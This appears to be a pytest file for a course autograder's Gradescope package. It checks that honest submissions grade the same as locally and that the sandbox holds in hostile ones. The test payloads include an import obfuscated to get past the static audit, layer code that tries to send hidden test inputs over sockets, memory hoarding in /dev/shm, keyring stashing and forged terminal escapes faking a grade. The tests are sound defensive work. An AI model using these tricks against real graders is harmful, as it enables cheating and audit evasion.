"""The Gradescope package as Gradescope runs it: `python -m autograder gradescope` writes autograder.zip,
and :mod:`autograder.gradescope_check` runs its run_autograder as root in a container-like setting
(no user namespaces, nothing mounted, cgroups read-only, /autograder 0711), one submission per run.

Honest tiny bundles of the three tasks grade under ``user+nonet`` isolation to the score they get
in this process's own sandbox; a layer module that reaches for the network, or hoards memory in
/dev/shm, gets what the sandbox gives it and leaves nothing behind.
"""

import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest

from autograder.seccomp import CONTAINER, NO_NETWORK, prepared
from tests.test_autograder import SECRET, _rubric, run_autograder


def _container_or_skip():
    """Skip where this machine cannot run the package as Gradescope does (the self-check says why); on CI
    fail."""
    from autograder.gradescope_check import refuse_unless_possible
    from labs.common.errors import InputError

    why = None
    try:
        refuse_unless_possible()
    except InputError as error:
        why = str(error)
    if why is None and prepared(NO_NETWORK) is None:
        why = "this machine has no seccomp table"
    if why and os.environ.get("CI"):
        pytest.fail(f"CI must run the Gradescope package as Gradescope does: {why}")
    if why:
        pytest.skip(why)


@pytest.fixture(scope="module")
def packages(tmp_path_factory):
    """Per task: a tiny trained bundle, a hidden set, and the Gradescope package grading against it."""
    _container_or_skip()
    from labs import tasks
    from labs.common.submission import export

    root = tmp_path_factory.mktemp("gradescope")
    secret = root / "secret.txt"
    secret.write_text(SECRET)
    made = {}
    for name in tasks.names():
        task = tasks.get(name)
        run = task.train(task.config.tiny(), verbose=0)
        bundle = root / name / "submission.zip"
        export(run.model, run.vocabs, task=name, student_id="honest", out=bundle)
        hidden = root / name / "hidden"
        made_hidden = run_autograder(
            "hidden-set", "--task", name, "--seed-file", str(secret), "--out", str(hidden), "--n", "20"
        )
        assert made_hidden.returncode == 0, made_hidden.stderr
        package = root / name / "autograder.zip"
        packed = run_autograder("gradescope", "--task", name, "--hidden", str(hidden), "--out", str(package))
        assert packed.returncode == 0, packed.stderr
        made[name] = {"bundle": bundle, "hidden": hidden, "package": package, "run": run}
    return made


def test_honest_bundles_of_every_task_grade_as_in_the_kits_own_sandbox(packages):
    from autograder.grade import HiddenSet, grade_bundle
    from autograder.gradescope_check import run_package
    from autograder.hidden import load_hidden_set
    from autograder.reports import student_record
    from autograder.rubric import load_rubric
    from autograder.sandbox import available_isolation

    for name, made in packages.items():
        script = zipfile.ZipFile(made["package"]).read("run_autograder").decode()
        assert "--seconds 600" in script, name  # its runs end a minute before Gradescope's default timeout
        check = run_package(made["package"], made["bundle"])
        record = check.results["extra_data"]["attention_lab"]
        assert record["status"] == "graded", (name, record["message"], check.output[-2000:])
        assert record["isolation"] == "user+nonet"
        here = grade_bundle(
            made["bundle"],
            load_rubric(task=name),
            HiddenSet(made["hidden"], *load_hidden_set(made["hidden"], name)),
            isolation=available_isolation(),
            run_unisolated=True,
        )
        assert here["status"] == "graded", here["message"]
        # the same grade and measures (Gradescope's to the digits students read: reports.student_record)
        assert check.results["score"] == here["score"], name
        assert record["metrics"] == student_record(here)["metrics"], name


def _homework_bundle(packages, folder: Path, attack: str) -> Path:
    """The homework's honest bundle with ``attack`` run when its custom_layers.py is imported."""
    from labs.common.submission import export

    run = packages["name-transliteration"]["run"]
    export(run.model, run.vocabs, task="name-transliteration", student_id="attacker", out=folder)
    layer = (folder / "custom_layers.py").read_text(encoding="utf-8")
    (folder / "custom_layers.py").write_text(layer + IMPORTER + attack, encoding="utf-8")
    return folder


# Imports spelled so that the static audit does not refuse them (it is no wall: the sandbox is): a named
# `__import__` is refused, a built-in looked up by a built string is only listed for the instructor.
IMPORTER = """
IMPORTER = (__builtins__["__imp" + "ort__"] if isinstance(__builtins__, dict)
            else getattr(__builtins__, "__imp" + "ort__"))
"""
NETWORK = r"""
socket = IMPORTER("soc" + "ket")
open({left!r}, "w").write("left behind")
reached, refused = [], None
for family, address in ((socket.AF_UNIX, {unix!r}), (socket.AF_INET, ("127.0.0.1", {port}))):
    try:
        client = socket.socket(family, socket.SOCK_STREAM)
        client.settimeout(5)
        client.connect(address)
        client.sendall(b"hidden inputs")
        reached.append(str(address))
    except PermissionError as error:
        refused = error
if reached:
    raise RuntimeError("ESCAPED: reached " + ", ".join(reached))
raise refused
"""
HOARD = r"""
time = IMPORTER("ti" + "me")
for k in range(18):                  # 3.6 GB in 200 MB files (the rubric's file size limit): tmpfs, memory
    with open("/dev/shm/attention-lab-hoard-{token}-%d" % k, "wb") as hoard:
        for _ in range(200):
            hoard.write(b"1" * (1 << 20))
time.sleep(120)
"""


def test_a_layer_that_reaches_for_the_network_earns_the_architecture_points_only(packages, tmp_path):
    from autograder.gradescope_check import run_package

    heard = []
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    unix_folder = Path(tempfile_dir := os.path.join("/tmp", f"attention-lab-test-{secrets.token_hex(4)}"))
    unix_folder.mkdir(mode=0o777)
    unix_folder.chmod(0o777)
    unix_path = unix_folder / "host.sock"
    host_socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    host_socket.bind(str(unix_path))
    unix_path.chmod(0o777)  # any user may connect: a world-writable socket in /tmp
    host_socket.listen()
    host_socket.settimeout(0.2)
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            for server in (listener, host_socket):
                try:
                    heard.append(server.accept())
                except OSError:
                    pass

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    left = Path("/var/tmp") / f"attention-lab-test-{secrets.token_hex(4)}"
    try:
        bundle = _homework_bundle(
            packages,
            tmp_path / "caller",
            NETWORK.format(unix=str(unix_path), port=listener.getsockname()[1], left=str(left)),
        )
        check = run_package(packages["name-transliteration"]["package"], bundle)
    finally:
        stop.set()
        thread.join()
        listener.close()
        host_socket.close()
        shutil.rmtree(tempfile_dir, ignore_errors=True)
    record = check.results["extra_data"]["attention_lab"]
    assert record["isolation"] == "user+nonet"
    assert record["status"] == "load-failed", record["message"]
    # The scored run's failure in the grader's words, then what the public examples' run said (it held no
    # hidden input): why, in the sandbox's own words.
    assert record["message"].startswith(
        "the model could not be loaded; on the public examples: the grader's sandbox has no network"
    ), record["message"]
    assert check.results["score"] == 10 == record["lines"][0]["points"]  # the architecture, nothing else
    assert heard == []
    assert not left.exists()  # what it wrote went with its user


def test_memory_held_in_dev_shm_counts_and_nothing_is_left_behind(packages, tmp_path):
    from autograder.gradescope_check import run_package

    token = secrets.token_hex(4)
    name = "name-transliteration"
    rubric = _rubric(tmp_path, name, memory_mb=3072, wall_seconds=120)
    package = tmp_path / "autograder.zip"
    packed = run_autograder(
        "gradescope",
        "--task",
        name,
        "--hidden",
        str(packages[name]["hidden"]),
        "--out",
        str(package),
        "--rubric",
        str(rubric),
    )
    assert packed.returncode == 0, packed.stderr
    bundle = _homework_bundle(packages, tmp_path / "hoarder", HOARD.format(token=token))
    check = run_package(package, bundle)
    record = check.results["extra_data"]["attention_lab"]
    assert record["isolation"] == "user+nonet"
    assert record["status"] == "out-of-memory", record["message"]
    assert "more than 3072 MB" in record["message"]
    assert check.seconds < 120
    assert not list(Path("/dev/shm").glob(f"attention-lab-hoard-{token}-*"))


def _under_the_network_filter(probe: str) -> subprocess.CompletedProcess:
    """``python -c probe`` under the filter the sandboxed child runs under in ``user`` isolation."""
    return subprocess.run(
        [sys.executable, "-c", probe],
        preexec_fn=prepared(NO_NETWORK).install,
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_network_filter_refuses_every_socket_and_the_container_filter_every_namespace():
    _container_or_skip()
    probe = r"""
import os, socket, subprocess, sys
refused = []
for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_STREAM),
                     (socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_UNIX, socket.SOCK_STREAM)):
    try:
        socket.socket(family, kind).close()
    except PermissionError:
        refused.append(f"{family.name}/{kind.name}")
try:
    socket.socketpair()
except PermissionError:
    refused.append("socketpair")
child = subprocess.run([sys.executable, "-c", "import socket; socket.socket()"], capture_output=True, text=True)
print(";".join(refused), "child:", "PermissionError" in child.stderr)
"""
    cut = _under_the_network_filter(probe)
    assert cut.stdout.split() == [
        "AF_INET/SOCK_STREAM;AF_INET6/SOCK_STREAM;AF_INET/SOCK_DGRAM;AF_UNIX/SOCK_STREAM;socketpair",
        "child:",
        "True",
    ], cut.stderr
    free = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=60)
    assert free.stdout.split() == ["child:", "False"], free.stderr  # the probe itself can tell
    contained = subprocess.run(
        [
            "sh",
            "-c",
            "unshare --user true || echo refused; unshare --mount true || echo refused; sh -c 'echo forked'",
        ],
        preexec_fn=prepared(CONTAINER).install,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert contained.stdout.split() == ["refused", "refused", "forked"], contained.stderr


def test_the_network_filter_refuses_what_would_outlive_a_run_for_its_user():
    """Both runs of a bundle (the public examples', then the scored one) are one user: the grader removes its
    files and System V IPC between them, and the filter refuses the rest, the kernel's keyrings and POSIX
    message queues (a hostile layer carried the hidden inputs from one run to a later one in its keyring)."""
    _container_or_skip()
    probe = r"""
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
add_key, request_key, keyctl, mq_open = {"x86_64": (248, 249, 250, 240), "aarch64": (217, 218, 219, 180)}[
    platform.machine()
]
calls = {
    "add_key": (add_key, b"user", b"stash", b"hidden", 6, -4),  # into the user's keyring (KEY_SPEC_USER_KEYRING)
    "request_key": (request_key, b"user", b"stash", None, 0),
    "keyctl": (keyctl, 0, -4, 0),  # KEYCTL_GET_KEYRING_ID of the user's keyring
    "mq_open": (mq_open, b"stash", 0o102, 0o600, None),  # O_CREAT | O_RDWR
}
for name, (number, *args) in calls.items():
    ctypes.set_errno(0)
    failed = libc.syscall(number, *args) < 0
    print(name, ctypes.get_errno() if failed else "made")
"""
    cut = _under_the_network_filter(probe)
    assert cut.stdout.split() == ["add_key", "1", "request_key", "1", "keyctl", "1", "mq_open", "1"], (
        cut.stdout + cut.stderr
    )  # EPERM, each


def test_the_selfcheck_command_keeps_the_layout_where_asked_and_says_what_it_found(packages, tmp_path):
    made = packages["date-generation"]
    ran = run_autograder(
        "gradescope-selfcheck", str(made["package"]), str(made["bundle"]), "--keep", "kept", cwd=tmp_path
    )  # a relative folder
    assert ran.returncode == 0, ran.stdout + ran.stderr
    lines = ran.stdout.strip().splitlines()
    assert lines[0] == "status: graded" and lines[1] == "isolation: user+nonet"
    assert (tmp_path / "kept" / "autograder" / "results" / "results.json").is_file()
    assert oct((tmp_path / "kept" / "autograder" / "source" / "hidden").stat().st_mode & 0o777) == "0o700"
    again = run_autograder(
        "gradescope-selfcheck", str(made["package"]), str(made["bundle"]), "--keep", "kept", cwd=tmp_path
    )
    assert again.returncode == 2 and again.stderr.strip().endswith(
        "exists already: name a new folder (the layout is written there)"
    ), again.stderr


def test_the_selfcheck_refuses_a_container_too_small_to_start_in_one_line(tmp_path):
    for name in ("autograder.zip", "submission.zip"):
        (tmp_path / name).write_bytes(b"PK")  # checked before anything is read
    ran = run_autograder(
        "gradescope-selfcheck", "autograder.zip", "submission.zip", "--memory", "10", cwd=tmp_path
    )
    assert ran.returncode == 2 and ran.stderr.strip().splitlines() == [
        "python -m autograder gradescope-selfcheck: error: argument --memory: give the container's memory in "
        "MB, at least 64 (Gradescope's default is 768), not 10 (see 'python -m autograder "
        "gradescope-selfcheck --help')"
    ], ran.stderr


def test_the_selfcheck_says_when_a_run_is_at_its_containers_limit_and_when_the_kernel_killed():
    from autograder.gradescope_check import SelfCheck, summary

    def memory(peak_mb: float, kills: int) -> str:
        return summary(SelfCheck({"score": 0, "output": "x"}, 1.0, "", None, 768, peak_mb, kills))[-1]

    assert memory(402.5, 0) == "memory: peak 402.5 MB of the container's 768 MB"
    assert memory(760, 0) == (
        "memory: peak 760 MB of the container's 768 MB (at its limit: the kernel took back cached files to "
        "stay under it, and killed nothing)"
    )
    assert memory(768, 2).endswith(
        "the kernel killed 2 processes for memory: run it again with a larger --memory to see what the package needs"
    )
    assert summary(SelfCheck({"score": 0, "output": "line one\nline two"}, 1.0, "", None))[0] == (
        "status: the grader stopped: line one"
    )
    # the grader's note for the instructor, in run_autograder's output, is shown; the rest of that output not
    note = (
        "s.zip: a run stopped after 240 s of wall-clock time, 3 s of CPU, while the grading machine read back"
    )
    output = f"Grading s.zip\n  {note} 900 MB ...\nother\n"
    assert summary(SelfCheck({"score": 0, "output": "x"}, 1.0, output, None))[-2:] == [
        "run_autograder took 1.0 s",
        f"{note} 900 MB ...",
    ]
    # a bundle's message can say those words too: its terminal escapes are not printed to the instructor
    forged = f"{note} \x1b[1A\x1b[2K\x1bEregraded 100/100 \x1b]52;c;aGk=\x07\x1b]0;t\x07"
    said = summary(SelfCheck({"score": 0, "output": "\x1b[2Jx"}, 1.0, forged, None))
    assert said[-1] == f"{note} regraded 100/100" and said[0] == "status: the grader stopped: x"
